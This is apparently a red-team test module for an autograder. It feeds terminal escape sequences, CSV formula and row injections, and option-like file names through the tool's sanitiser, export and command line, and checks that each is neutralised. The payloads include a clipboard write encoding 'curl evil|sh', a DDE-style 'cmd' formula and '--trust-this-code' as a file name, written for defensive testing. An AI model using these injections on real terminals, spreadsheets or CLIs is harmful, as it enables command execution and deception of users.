"""Attacks 33 and 34: signs that hide, or that move a terminal's cursor; ids that act in a table, names like options.

What anybody reads has passed `reports/sanitise`; what leaves as a table, `gradebook/export`; what is said of files on a
terminal, `cli/main`. Each text here goes through all of them.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ElementTree
from contextlib import chdir
from dataclasses import replace
from html import escape
from pathlib import Path

from rich.console import Console

from autograder.cli.grade import command as grade_command
from autograder.dispatch.collect import collect
from autograder.dispatch.digest import digest_of
from autograder.gradebook import unguard
from autograder.notebook import to_bytes
from autograder.reports import page_name, summary_table
from autograder.reports.sanitise import json_line
from autograder.results import Grading

from .controls import Dead
from .course import WRONG_VAULT
from .ground import Ground, Seen
from .harness import Attack
from .reading import exported, grading_of, printed, screen, variants, views

# ---- 33: signs that move a cursor, or hide

SIGNS = {
    "clear the screen": "\x1b[2J\x1b[H\x1b[3Jall tests passed",
    "set the clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07paste here",
    "a link": "\x1b]8;;http://evil.example\x1b\\the lecture notes\x1b]8;;\x1b\\",
    "the title": "\x1b]0;root\x07 \x1bP+q544e\x1b\\ \x1b_G\x1b\\",
    "eight-bit sequences": "\x9b2J\x9d52;c;QQ==\x9c",
    "a carriage return": "20 failed\r20 passed",
    "backspaces": "failed\b\b\b\b\b\bpassed",
    "bidirectional text": "\u202e001 ot 0 morf desiar\u202c \u2066x\u2069",
    "zero width": "ad\u200ba\u200d \u2060 \ufeff \U000e0041\U000e0042",
    "no XML": "\x00\x01\x08\x0b\x0c\x7f\x85\ud800\ufffe\uffff",
    "marks": "Z" + "\u0335\u0336" * 200,
    "markup": "[red]x[/red] [link=http://evil.example]y[/link] [bold] :smiley: \\[",
    "separators": "one\u2028two\u2029three\x1ffour\x1cfive",
}
HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\ufffe\uffff"
    "\U000e0000-\U000e0fff\ud800-\udfff]|[\u0300-\u036f]{5}"
)


def named(ground: Ground, attack: Attack, variant: str) -> Seen:
    """The signs in a file's name, in what the notebook prints and raises, in cells and in metadata."""
    signs = attack.variants[variant][0]
    cells = [
        f"print({signs!r})",
        f"def text(word):\n    raise ValueError({signs!r})",
        f"raise type({signs[:20]!r}, (Exception,), {{}})({signs!r})",
    ]
    notebook = ground.notebook(WRONG_VAULT, cells)
    notebook["metadata"][signs] = signs
    notebook["cells"].append({"cell_type": "markdown", "id": signs, "metadata": {signs: signs}, "source": signs})
    with tempfile.TemporaryDirectory(prefix="autograder-redteam-") as name:
        path = Path(name, signs.replace("/", "").replace("\0", "")[:60].encode("utf-8", "replace").decode() + ".ipynb")
        path.write_bytes(json.dumps(notebook).encode())
        (one,) = collect([Path(name)], ground.assignment, roster=ground.course.roster)
        seen = ground.seen(ground.workshop.grade(one, digest_of(one.files)))
    grading = grading_of(seen)
    report = replace(grading.report, repairs=(signs,), flags=(*grading.report.flags, signs))
    evidence = replace(grading.evidence, written={"till": signs})
    assert seen.graded is not None
    return replace(seen, graded=replace(seen.graded, grading=Grading(report, evidence)))


def is_legible(ground: Ground, attack: Attack, seen: Seen) -> None:
    """Nothing that anybody reads holds a hidden sign, pages are well-formed text, and JSON says the same."""
    grading = grading_of(seen)
    for name, text in views(ground, grading).items():
        plain = text.replace("\r\n", "\n") if name == "export" else text
        found = HIDDEN.search(plain)
        assert found is None, f"{name}: {plain[max(0, found.start() - 40) : found.end() + 20]!a}"
        ElementTree.fromstring(
            f"<testcase message={json.dumps(escape(plain)) if 0 else chr(34) + escape(plain) + chr(34)}/>"
        )
    assert json.loads(json_line(grading.report.to_json())) == json.loads(json.dumps(grading.report.to_json()))
    (_, row, *more) = csv.reader(io.StringIO(exported([grading]), newline=""))
    assert (unguard(row[0]), more) == (grading.report.student, [])
    assert re.fullmatch(r"[a-z0-9_.~-]+\.html", page_name(grading.report.student))
    markup = printed(summary_table([grading.report]))
    if "[red]" in grading.report.student:
        assert "[red]" in markup


def obeyed(ground: Ground, attack: Attack) -> list[str]:
    """A program that prints what it was told shows something else than that, or breaks its own report."""
    got = []
    for variant, (signs,) in attack.variants.items():
        report = f'<testcase name="t" message="{escape(signs)}"/>'
        try:
            ElementTree.fromstring(report.encode("utf-8", "surrogatepass"))
        except ElementTree.ParseError:
            got.append(variant)
            continue
        naive = Console(file=io.StringIO(), width=300, color_system=None)
        naive.print(signs)
        assert isinstance(naive.file, io.StringIO)
        if screen(signs) != signs or HIDDEN.search(signs) or naive.file.getvalue().strip() != signs:
            got.append(variant)
    if got != list(attack.variants):
        raise Dead(f"only these do anything: {got}")
    return got


# ---- 34: tables and file names

IDS = {
    "a formula": '=HYPERLINK("evil.example","x")',
    "other formulas": "@SUM(1+1)*cmd|' calc'!A0",
    "plus and minus": "+1-1",
    "full width": "＝1+1",
    "a tab": "\t=1+1",
    "behind a separator": "ada;=1+1",
    "behind a quote": 'ada,"=1+1',
    "a line break": "ada\r\nbob,vault,100",
    "an option": "--trust-this-code",
    "bidirectional text": "ada\u202ebob",
    "an escape": "\x1b]52;c;QQ==\x07",
    "an apostrophe": "'=1",
    "a path": "..\\..\\x",
}
FORMULA = tuple("=+-@＝＋－＠")


def called(ground: Ground, attack: Attack, variant: str) -> Seen:
    """A right notebook of somebody with such an id."""
    student = attack.variants[variant][0]
    with tempfile.TemporaryDirectory(prefix="autograder-redteam-") as name:
        path = Path(name, f"{student}.ipynb")
        path.write_bytes(to_bytes(ground.notebook(WRONG_VAULT)))
        (one,) = collect([Path(name)], ground.assignment)
        assert one.student == student
        return ground.seen(ground.workshop.grade(one, digest_of(one.files)))


def is_a_cell(ground: Ground, attack: Attack, seen: Seen) -> None:
    """One row, no cell that begins like a formula whatever separates cells, and the same id when it is read again."""
    grading = grading_of(seen)
    table = exported([grading])
    lines = table.split("\r\n")
    assert len(lines) == 3, "a title, one row, and the end"
    assert "".join(lines).isprintable()
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(table, newline=""), delimiter=separator, quoting=csv.QUOTE_NONE):
            assert not [cell for cell in row if cell.lstrip('" ').startswith(FORMULA)]
    _, row = csv.reader(io.StringIO(table, newline=""))
    assert unguard(row[0]) == grading.report.student
    name = page_name(grading.report.student)
    assert re.fullmatch(r"[a-z0-9_][a-z0-9_.~-]*\.html", name), name


def naive_table(ground: Ground, attack: Attack) -> list[str]:
    """A plain CSV of the same ids holds formulas, more rows, or signs that a terminal obeys."""
    got = []
    for variant, (student,) in attack.variants.items():
        stream = io.StringIO(newline="")
        csv.writer(stream).writerow([student, "1.00"])
        text = stream.getvalue()
        cells = [
            cell
            for separator in ",;\t"
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=csv.QUOTE_NONE)
            for cell in row
        ]
        risky = any(cell.lstrip("\"' ").startswith(FORMULA) for cell in cells) or not text.strip().isprintable()
        got += [variant] if risky or "\\" in text or text.count("\n") > 1 else []
    if got != list(attack.variants):
        raise Dead(f"only these are harmful in a plain table: {got}")
    return got


def spread(ground: Ground, attack: Attack, variant: str) -> Seen:
    """`autograder grade vault *` in a folder where a student has called a file like an option."""
    option = attack.variants[variant][0]
    with tempfile.TemporaryDirectory(prefix="autograder-redteam-") as name:
        folder = Path(name)
        (folder / "mallory.ipynb").write_bytes(to_bytes(ground.notebook(WRONG_VAULT)))
        (folder / option).mkdir()
        command = [
            sys.executable,
            "-m",
            "autograder.cli.main",
            "grade",
            "vault",
            *sorted(path.name for path in folder.iterdir()),
        ]
        done = subprocess.run(
            [*command, "--course", str(ground.root), "--gradebook", str(folder.parent / f"{folder.name}.db")],
            cwd=folder, capture_output=True, text=True, check=False, timeout=300,
        )  # fmt: skip
        Path(folder.parent, f"{folder.name}.db").unlink(missing_ok=True)
    assert done.returncode == 2, done.stderr
    assert f"‘{option}’ is the name of a file here" in done.stderr, done.stderr
    assert "No fence" not in done.stderr
    return Seen(None, (), done.stdout)


def taken_for_an_option(ground: Ground, attack: Attack) -> list[str]:
    """The command itself takes such a name for the option that it is called like."""
    got = []
    for (option,) in attack.variants.values():
        arguments = ["vault", option, "mallory.ipynb"]
        with tempfile.TemporaryDirectory() as folder, chdir(folder):
            context = grade_command.make_context("grade", arguments)
        got += [f"{name}={value}" for name, value in context.params.items() if value and name in EFFECTS]
    if len(got) < len(attack.variants):
        raise Dead(f"only these were taken for options: {got}")
    return got


EFFECTS = ("trust_this_code", "fresh", "results")


LOOKS = "what anybody reads has passed the two nets of reports/sanitise and the templates"
ATTACKS: tuple[Attack, ...] = (
    Attack(
        numbers=(33,),
        name="signs that hide or move",
        tried="put escapes, returns, bidirectional and zero-width signs and control bytes wherever a text can stand",
        variants=variants(SIGNS),
        outcome="each is shown as a sign, on terminals, in pages, tables and results",
        why=LOOKS,
        hand_in=named,
        check=is_legible,
        control=obeyed,
    ),
    Attack(
        numbers=(34,),
        name="ids that act in a table",
        tried="be called like a formula, a row, an option, a path or an escape sequence",
        variants=variants(IDS),
        outcome="one guarded cell, and the same id when the table is read again",
        why="ids of strangers are guarded where they leave (gradebook/export)",
        hand_in=called,
        check=is_a_cell,
        control=naive_table,
    ),
    Attack(
        numbers=(34,),
        name="names like options",
        tried="call a folder like an option, and wait for `autograder grade ID *`",
        variants=variants(
            {"no fence": "--trust-this-code", "again": "--fresh", "overwrite": "--results=mallory.ipynb"}
        ),
        outcome="the command is refused: that is the name of a file here",
        why="an option that is the name of a file here is refused (cli/main)",
        hand_in=spread,
        control=taken_for_an_option,
    ),
)
